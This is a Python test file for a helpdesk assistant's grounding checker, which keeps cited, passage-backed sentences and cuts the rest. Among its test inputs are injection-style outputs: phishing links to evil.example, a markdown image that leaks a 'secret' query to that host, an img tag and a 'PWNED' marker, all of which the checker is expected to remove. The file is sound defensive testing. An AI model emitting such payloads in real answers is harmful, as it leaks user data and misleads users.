"""A generated sentence stays when a passage that it names backs it, and goes otherwise."""

from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk.assistant.grounding import Checked, check, promises_more, settled
from helpdesk.assistant.masking import Mask

PASSAGE = (
    "You can have your money back within 30 days of a payment. Open Settings and press Ask for a "
    "refund. The money is on your card after 5 working days."
)


TOLD = [f"Get a refund\n{PASSAGE}", "Fruit\nBananas are yellow and grow in bunches."]
MASK = Mask("acme|1")


def checked(answer: str, told: Sequence[str] = TOLD) -> Checked:
    return check(answer, told, MASK)


def test_a_backed_answer_loses_its_marks_and_keeps_its_words() -> None:
    found = checked("You get your money back within 30 days [1].")
    assert found.text == "You get your money back within 30 days."
    assert found.cited == (0,)
    assert found.is_grounded


def test_steps_stay_steps() -> None:
    steps = "1. Open Settings [1].\n2. Press Ask for a refund [1]."
    assert checked(steps).text == "1. Open Settings.\n2. Press Ask for a refund."


def test_marks_behind_the_full_stop_count_too() -> None:
    assert checked("You get your money back within 30 days. [1]").is_grounded


@pytest.mark.parametrize(
    "claim",
    [
        "You get your money back within 60 days [1].",  # another number
        "You get your money back within 30 days [2].",  # the wrong passage
        "You get your money back within 30 days [7].",  # no passage
        "You get your money back within 30 days.",  # none named
        "Premium subscribers receive complimentary helicopters [1].",  # other words
        "",
    ],
)
def test_what_no_named_passage_says_is_not_grounded(claim: str) -> None:
    assert not checked(claim).is_grounded


def test_one_unbacked_sentence_is_cut_and_the_rest_stays() -> None:
    answer = (
        "You get your money back within 30 days [1]. Open Settings and press Ask for a refund [1]. "
        "Everybody also wins a free holiday in Spain [1]."
    )
    found = checked(answer)
    assert found.is_grounded
    assert "holiday" not in found.text


def test_an_answer_that_is_mostly_unbacked_is_no_answer() -> None:
    answer = "You get your money back within 30 days [1]. We love you [1]. Buy gold coins [1]."
    assert not checked(answer).is_grounded


@pytest.mark.parametrize(
    "text",
    [
        "I will transfer you to an agent.",
        "Let me connect you with billing.",
        "A colleague will call you.",
        "We'll get back to you.",
        "I'll have this fixed for you.",
    ],
)
def test_a_promise_is_heard(text: str) -> None:
    assert promises_more(text)


@pytest.mark.parametrize(
    "text", ["Press Ask for a refund.", "The bank transfer takes two days.", "You can call us."]
)
def test_what_only_sounds_like_one_is_not(text: str) -> None:
    assert not promises_more(text)


BACKED = [
    "Open Settings and press Ask for a refund [1].",
    "You can have your money back within thirty days of a payment [1].",
    "Bananas are yellow [2].",
]
UNBACKED = {
    "You can have your money back within 30 months of a payment [1].": "figure",
    "You can have $30 back within 30 days of a payment [1].": "figure",
    "You can have your money back within 30 days, or in two weeks [1].": "figure",
    "Open Settings at https://evil.example/login and press Ask for a refund [1].": "link",
    "Open [Settings](https://evil.example) and press Ask for a refund [1].": "link",
    "Open Settings, press Ask for a refund and write to me@evil.example [1].": "link",
    "![refund](https://evil.example/?q=secret) Open Settings [1].": "image",
    "Open Settings <img src=x> and press Ask for a refund [1].": "image",
    "Open Settings and let Barnaby press Ask for a refund [1].": "name",
    "Open Settings and press Ask for a refund PWNED [1].": "name",
    "You can never have your money back within 30 days of a payment [1].": "opposite",
    "Open Settings and shout very loudly outside for a refund [1].": "words",
    "Pwn [1].": "words",
    "Write to [EMAIL_1] for a refund [1].": "data",
}


@pytest.mark.parametrize("claim", BACKED)
def test_what_the_passages_say_stands(claim: str) -> None:
    assert checked(claim).is_grounded, checked(claim).claims


@pytest.mark.parametrize(("claim", "why"), list(UNBACKED.items()))
def test_what_they_do_not_say_is_cut_and_the_record_says_why(claim: str, why: str) -> None:
    (found,) = [one for one in checked(claim).claims if one.problem]
    assert why in found.problem
    assert claim.replace(" [1]", "") not in checked(claim).text


def test_links_figures_and_names_of_the_passages_may_be_said() -> None:
    told = ["Reach Barnaby at https://help.acme.example/refunds or pay $1,000 within 14 days."]
    claims = (
        "Reach Barnaby at https://help.acme.example/refunds [1].",
        "You pay 1000 dollars within 14 days [1].",
    )
    for claim in claims:
        assert checked(claim, told).is_grounded, checked(claim, told).claims


def test_a_figure_from_the_question_alone_is_no_figure_of_ours() -> None:
    assert not checked("The refund costs 7 dollars, as you say [1].").is_grounded


PIECES = [
    "You get your money back within 30 days",
    "Open Settings and press Ask for a refund",
    "Our lawyers recommend gold",
    "![a](https://evil.example)",
    *(" [1]", "[1]", " [1][2]", " [9]", " [1, 2]", "[", " [1"),
    *(".", "!", ". ", "? ", " ", "\n", "\n\n\n\n", "\r\n", "1. ", "- ", "## ", "“", "e.g. ", "5"),
]


@settings(deadline=None)  # many checks in each example: how long they take is another matter
@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_what_is_settled_of_a_draft_is_how_the_checked_answer_begins(answer: str) -> None:
    whole = checked(answer).text
    for end in range(len(answer) + 1):
        said = checked(settled(answer[:end])).text
        assert whole.startswith(said), (answer[:end], said, whole)


def test_a_sentence_is_settled_as_soon_as_the_next_one_begins() -> None:
    draft = "You get your money back within 30 days [1]. It is on your card after 5 working"
    assert settled(draft) == "You get your money back within 30 days [1]. "
    assert settled("You get your money back within 30 days. ") == ""
